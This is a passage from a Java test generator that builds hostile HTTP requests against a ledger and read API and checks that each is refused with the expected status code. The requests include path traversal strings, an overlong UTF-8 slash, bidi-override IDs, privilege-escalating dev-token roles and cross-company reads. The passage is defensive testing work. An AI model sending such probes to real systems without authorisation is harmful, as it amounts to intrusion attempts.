        } else if (choice == 2) {
            path = endpoint.path() + pick(List.of("/extra", "/", "/..x", "/0"));
            expected = Set.of(404, 405);
            description = "a path below the endpoint";
        } else {
            path = "/api/v1/regimes/" + context.regimeId() + "/safety-cases/"
                    + pick(List.of("k-none-" + number, encode("a b"), encode("😀"), "a".repeat(65))) + "/acceptance";
            expected = Set.of(400, 404);
            description = "acceptance of a case that does not exist or cannot";
            endpoint = endpoints().stream().filter(candidate -> candidate.name().equals("accept")).findFirst()
                    .orElseThrow();
        }
        return new HostileCase(number, category, endpoint.name() + ": " + description, Service.LEDGER,
                new RawHttp.Request(endpoint.method(), path, RawHttp.headers("Authorization", "Bearer "
                        + endpoint.token(), "Content-Type", "application/json", "Idempotency-Key", "hostile-" + number),
                        bytes(endpoint.happy().apply(number)), false), expected);
    }

    private HostileCase method(int number, String category) {
        Endpoint endpoint = pick(endpoints());
        String method = pick(List.of("GET", "PUT", "DELETE", "PATCH", "POST", "TRACE").stream()
                .filter(candidate -> !candidate.equals(endpoint.method())).toList());
        boolean withBody = !method.equals("GET") && !method.equals("DELETE") || random.nextBoolean();
        return new HostileCase(number, category, method + " on " + endpoint.name(), Service.LEDGER,
                new RawHttp.Request(method, endpoint.path(), RawHttp.headers("Authorization", "Bearer "
                        + endpoint.token(), "Content-Type", "application/json", "Idempotency-Key", "hostile-" + number),
                        withBody ? bytes(endpoint.happy().apply(number)) : null, false), Set.of(405));
    }

    // ------------------------------------------------------------------ reads

    private static final List<String> READ_PATHS = List.of("/budget", "/companies", "/companies/able",
            "/safety-cases", "/burn-down", "/companies/able/statement");

    private HostileCase readParameters(int number, String category) {
        String regime = "/api/v1/regimes/" + context.regimeId();
        int choice = random.nextInt(9);
        String target;
        String description;
        Set<Integer> expected = Set.of(400);
        switch (choice) {
            case 0 -> {
                String limit = pick(List.of("0", "-1", "1001", "99999999999999999999", "abc", "1e3", "", " 5",
                        "5.0", "0x10", "1,2"));
                String list = pick(List.of("", "/companies", "/safety-cases", "/burn-down",
                        "/companies/able/statement"));
                target = (list.isEmpty() ? "/api/v1/regimes" : regime + list) + "?limit=" + encode(limit);
                description = "limit \"" + limit + "\"";
            }
            case 1 -> {
                String asOf = pick(List.of("garbage", "2027-13-01T00:00:00Z", "", "2027-01-01", "1e400",
                        "2027-01-01T00:00:00", "+1000000000-12-31T23:59:59.999999999Z",
                        "-1000000000-01-01T00:00:00Z", "+999999999-12-31T23:59:59Z", "2027-02-30T00:00:00Z",
                        "now", "0"));
                target = regime + "/budget?asOf=" + encode(asOf);
                description = "asOf \"" + asOf + "\"";
                if (asOf.startsWith("+") || asOf.startsWith("-")) {
                    // Instants at the ends of the range are valid ISO-8601: the regime did not exist yet (404) or
                    // has its current budget (200); a refusal (400) is fair too. A 5xx is not.
                    expected = Set.of(200, 400, 404);
                }
            }
            case 2 -> {
                String minSequence = pick(List.of("-1", "abc", "1.5", "", "99999999999999999999", "-0x1", "1e2"));
                target = regime + pick(List.of("/budget", "/companies", "/companies/able")) + "?minSequence="
                        + encode(minSequence);
                description = "minSequence \"" + minSequence + "\"";
            }
            case 3 -> {
                String name = pick(List.of("limt", "LIMIT", "status", "x", "asof", "min_sequence", "😀"));
                target = regime + "/budget?" + encode(name) + "=1";
                description = "unknown parameter \"" + name + "\"";
            }
            case 4 -> {
                target = regime + pick(List.of("/companies?limit=5&limit=6", "/budget?asOf=2027-01-01T00:00:00Z"
                        + "&asOf=2028-01-01T00:00:00Z", "/safety-cases?status=ACCEPTED&status=SUBMITTED"));
                description = "a parameter given twice";
            }
            case 5 -> {
                String after = pick(List.of("!!!", "====", "a", Base64.getUrlEncoder().encodeToString(
                        "../..".getBytes(StandardCharsets.UTF_8)), Base64.getUrlEncoder().encodeToString(
                        "😀".getBytes(StandardCharsets.UTF_8)), "", "%00", Base64.getUrlEncoder().encodeToString(
                        "x".repeat(100).getBytes(StandardCharsets.UTF_8))));
                target = regime + pick(List.of("/companies", "/safety-cases")) + "?after=" + encode(after);
                description = "cursor \"" + shorten(after) + "\"";
            }
            case 6 -> {
                String status = pick(List.of("accepted", "X", "", "ACCEPTED ", "0", "SUBMITTED,ACCEPTED"));
                target = regime + "/safety-cases?status=" + encode(status);
                description = "status \"" + status + "\"";
            }
            case 7 -> {
                String company = pick(List.of("-x", "😀", "a b", "a".repeat(65), ""));
                target = regime + "/safety-cases?companyId=" + encode(company);
                description = "companyId filter \"" + shorten(company) + "\"";
            }
            default -> {
                String raw = pick(List.of("%", "%%%", "%ZZ", "%E2%82", "%C0%AF", "%G0"));
                target = regime + "/companies?after=" + raw;
                description = "malformed percent-encoding \"" + raw + "\"";
            }
        }
        String token = target.contains("/statement") ? token("REGULATOR") : token(pick(List.of("VIEWER",
                "REGULATOR", "AUDITOR", "COMPANY:able")));
        return read(number, category, description, target, token, expected);
    }

    private HostileCase readPathIds(int number, String category) {
        String id = pick(List.of("-x", "a b", "😀", "\u202Eabc", "a".repeat(65), "a".repeat(3_000), "Ω", "a*b",
                "ａ", "a'b", "a\"b", "a<b>", "no-such-regime-" + number));
        boolean companyPart = random.nextBoolean();
        String target = companyPart ? "/api/v1/regimes/" + context.regimeId() + "/companies/" + encode(id)
                : "/api/v1/regimes/" + encode(id) + pick(READ_PATHS);
        boolean exists = id.startsWith("no-such");
        return read(number, category, (companyPart ? "company" : "regime") + " id \"" + shorten(id) + "\"", target,
                token("REGULATOR"), exists ? Set.of(404) : Set.of(400));
    }

    private HostileCase readUnauthenticated(int number, String category) {
        // The standalone read side lets a caller without a bearer token read as a VIEWER; a bad one is refused.
        String name = pick(context.unauthenticated().entrySet().stream()
                .filter(header -> header.getValue() != null && header.getValue().startsWith("Bearer "))
                .map(Map.Entry::getKey).toList());
        String target = "/api/v1/regimes/" + context.regimeId() + pick(READ_PATHS);
        int choice = random.nextInt(3);
        if (choice == 0) {
            String other = "/api/v1/regimes/" + context.regimeId() + "/companies/other/statement";
            return read(number, category, "another company's statement", other, token("COMPANY:able"), Set.of(403));
        }
        if (choice == 1) {
            String method = pick(List.of("POST", "PUT", "DELETE", "PATCH"));
            return new HostileCase(number, category, method + " on a read endpoint", Service.PROJECTION,
                    new RawHttp.Request(method, target, RawHttp.headers("Authorization", "Bearer " + token("VIEWER"),
                            "Content-Type", "application/json"), "{}".getBytes(StandardCharsets.UTF_8), false),
                    Set.of(405));
        }
        return read(number, category, name, target, null, Set.of(401), context.unauthenticated().get(name));
    }

    private HostileCase read(int number, String category, String description, String target, String token,
            Set<Integer> expected) {
        return read(number, category, description, target, token, expected, null);
    }

    private HostileCase read(int number, String category, String description, String target, String token,
            Set<Integer> expected, String rawAuthorization) {
        List<Map.Entry<String, String>> headers = new ArrayList<>();
        if (token != null) {
            headers.add(Map.entry("Authorization", "Bearer " + token));
        } else if (rawAuthorization != null) {
            headers.add(Map.entry("Authorization", rawAuthorization));
        }
        return new HostileCase(number, category, description, Service.PROJECTION,
                new RawHttp.Request("GET", target, headers, null, false), expected);
    }

    private HostileCase ledgerParameters(int number, String category) {
        int choice = random.nextInt(3);
        String target;
        String description;
        String token;
        if (choice == 0) {
            String from = pick(List.of("0", "-1", "abc", "99999999999999999999", "1.5"));
            target = "/api/v1/regimes/" + context.regimeId() + "/audit-log?from=" + encode(from);
            description = "audit log from \"" + from + "\"";
            token = token(pick(List.of("AUDITOR", "REGULATOR")));
        } else if (choice == 1) {
            String prior = pick(List.of("1e400", "2", "-0.1", "abc", "", "0.1234567890123456789", "1"));
            String targetProbability = pick(List.of("0", "1", "1e-400", "abc", "1.5", ""));
            target = "/api/v1/risk/required-likelihood-ratio?prior=" + encode(prior) + "&target="
                    + encode(targetProbability);
            description = "required ratio for prior \"" + prior + "\" and target \"" + targetProbability + "\"";
            token = token(pick(List.of("VIEWER", "COMPANY:able", "AUDITOR")));
        } else {
            String raw = pick(List.of("%", "%%%", "%ZZ", "%E2%82", "%C0%AF"));
            target = pick(List.of("/api/v1/regimes/" + context.regimeId() + "/audit-log?from=",
                    "/api/v1/risk/required-likelihood-ratio?target=0.1&prior=")) + raw;
            description = "malformed percent-encoding \"" + raw + "\"";
            token = token("AUDITOR");
        }
        return new HostileCase(number, category, description, Service.LEDGER, new RawHttp.Request("GET", target,
                RawHttp.headers("Authorization", "Bearer " + token), null, false), Set.of(400));
    }

    private HostileCase devTokens(int number, String category) {
        String body = pick(List.of("{}", "{\"role\":null}", "{\"role\":\"SYSTEM\"}", "{\"role\":\"COMPANY\"}",
                "{\"role\":\"ROOT\"}", "{\"role\":\"COMPANY\",\"companyId\":\"../x\"}", "{\"role\":1}",
                "{\"role\":\"VIEWER\",\"extra\":1}", "{\"role\":", "[]", "",
                "{\"role\":\"VIEWER\",\"role\":\"VIEWER\"}",
                "{\"role\":\"regulator\"}", "{\"role\":\"COMPANY\",\"companyId\":\"\"}"));
        return new HostileCase(number, category, "dev token for " + body, Service.LEDGER, new RawHttp.Request("POST",
                "/api/v1/dev/tokens", RawHttp.headers("Content-Type", "application/json"),
                body.getBytes(StandardCharsets.UTF_8), false), Set.of(400));
    }

    /**
     * A request refused for its body, asking for a representation the service may not have: the refusal is still
     * problem+json, or a 406 in problem+json.
     */
    private HostileCase accept(int number, String category) {
        if (random.nextInt(3) == 0) {
            // A command that would succeed, for a client that cannot read JSON: refused before it runs, so the
            // event store check at the end catches a command performed and then answered 406.
            Endpoint endpoint = pick(endpoints());
            String accept = pick(UNPRODUCIBLE);
            return new HostileCase(number, category, endpoint.name() + " that would succeed, Accept \"" + accept
                    + "\"", Service.LEDGER, new RawHttp.Request(endpoint.method(), endpoint.path(), RawHttp.headers(
                    "Authorization", "Bearer " + endpoint.token(), "Content-Type", "application/json",
                    "Idempotency-Key", "hostile-" + number, "Accept", accept), bytes(endpoint.happy().apply(number)),
                    false), Set.of(406));
        }
        HostileCase refused = bodyDefect(number, category, pick(List.<BodyDefect>of(this::missingField,
                this::wrongType, this::malformedId, this::unknownField)));
        List<Map.Entry<String, String>> headers = new ArrayList<>(refused.request().headers());
        String accept = pick(ACCEPTS);
        headers.add(Map.entry("Accept", accept));
        RawHttp.Request request = refused.request();
        Set<Integer> expected = new HashSet<>(refused.expected());
        expected.add(406);
        return new HostileCase(number, category, refused.description() + ", Accept \"" + accept + "\"",
                refused.service(), new RawHttp.Request(request.method(), request.target(), headers, request.body(),
                request.chunked()), Set.copyOf(expected));
    }

    /** A command that would succeed, with odd bytes in one of its headers: refused, whichever header it is. */
    private HostileCase headerBytes(int number, String category) {
        Endpoint endpoint = pick(endpoints());
        String header = pick(List.of("Idempotency-Key", "Authorization", "Content-Type", "Accept", "X-Request-Id"));
        String value = pick(ODD_HEADER_VALUES);
        List<Map.Entry<String, String>> headers = RawHttp.headers("Authorization", "Bearer " + endpoint.token(),
                "Content-Type", "application/json", "Idempotency-Key", "hostile-" + number);
        headers.removeIf(existing -> existing.getKey().equals(header));
        headers.add(Map.entry(header, header.equals("Authorization") ? "Bearer " + value : value));
        boolean harmless = header.equals("X-Request-Id") || header.equals("Accept");
        if (harmless) {
            // A header the ledger does not use cannot make the command fail: give the body a defect too.
            return new HostileCase(number, category, endpoint.name() + ": " + header + " \"" + value
                    + "\" and no body", Service.LEDGER, new RawHttp.Request(endpoint.method(), endpoint.path(),
                    headers, endpoint.required().isEmpty() ? "[]".getBytes(StandardCharsets.UTF_8)
                            : "{}".getBytes(StandardCharsets.UTF_8), false), Set.of());
        }
        return new HostileCase(number, category, endpoint.name() + ": " + header + " \"" + value + "\"",
                Service.LEDGER, new RawHttp.Request(endpoint.method(), endpoint.path(), headers,
                        bytes(endpoint.happy().apply(number)), false), Set.of());
    }

    // ------------------------------------------------------------------ JSON helpers

    private String token(String caller) {
        String token = context.tokens().get(caller);
        if (token == null) {
            throw new IllegalStateException("no token for " + caller);
        }
        return token;
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static byte[] bytes(JsonNode body) {
        return body.toString().getBytes(StandardCharsets.UTF_8);
    }

    /** The body with {@code field} holding {@code rawJson} verbatim, whatever it is. */
    private static byte[] withRaw(ObjectNode body, String field, String rawJson) {
        parentOf(body, field).put(last(field), RAW);
        return body.toString().replace("\"" + RAW + "\"", rawJson).getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] intoFirstString(String json, byte[] inserted) {
        int colon = json.indexOf(":\"");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] before = json.substring(0, colon + 2).getBytes(StandardCharsets.UTF_8);
        out.writeBytes(before);
        out.writeBytes(inserted);
        out.writeBytes(json.substring(colon + 2).getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private static JsonNode at(ObjectNode body, String path) {
        JsonNode node = body;
        for (String part : path.split("\\.")) {
            node = node.path(part);
        }
        return node;
    }

    private static ObjectNode parentOf(ObjectNode body, String path) {
        int dot = path.lastIndexOf('.');
        return dot < 0 ? body : (ObjectNode) at(body, path.substring(0, dot));
    }

    private static String last(String path) {
        return path.substring(path.lastIndexOf('.') + 1);
    }

    /** Dotted paths of the body's objects, "" for the body itself. */
    private static List<String> objectPaths(ObjectNode body) {
        List<String> paths = new ArrayList<>();
        collect(body, "", paths, true);
        return paths;
    }

    /** Dotted paths of every field, nested ones included. */
    private static List<String> leafAndObjectPaths(ObjectNode body) {
        List<String> paths = new ArrayList<>();
        collect(body, "", paths, false);
        paths.remove("");
        return paths;
    }

    private static void collect(JsonNode node, String path, List<String> paths, boolean objectsOnly) {
        if (node.isObject()) {
            if (objectsOnly) {
                paths.add(path);
            }
            for (String name : node.propertyNames()) {
                String child = path.isEmpty() ? name : path + "." + name;
                if (!objectsOnly) {
                    paths.add(child);
                }
                collect(node.get(name), child, paths, objectsOnly);
            }
        }
    }

    static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String shorten(String text) {
        return text.length() > 40 ? text.substring(0, 40) + "…(" + text.length() + ")" : text;
    }
}
